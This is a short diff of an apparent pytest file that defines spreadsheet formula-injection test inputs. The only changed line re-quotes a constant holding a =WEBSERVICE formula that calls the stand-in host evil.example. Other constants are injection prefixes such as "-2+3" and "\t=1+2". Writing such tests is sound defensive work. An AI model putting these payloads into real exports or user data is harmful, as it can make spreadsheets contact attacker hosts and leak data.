@@ -21,7 +21,7 @@ MINUS = "-2+3"
 TAB = "\t=1+2"
 CR = "\r=1+2"
 UNION = "=1+2"  # a grassroots union name nobody has
-CONTACT = "=WEBSERVICE(\"http://evil.example/\")"
+CONTACT = '=WEBSERVICE("http://evil.example/")'
 
 
 @pytest.mark.parametrize(
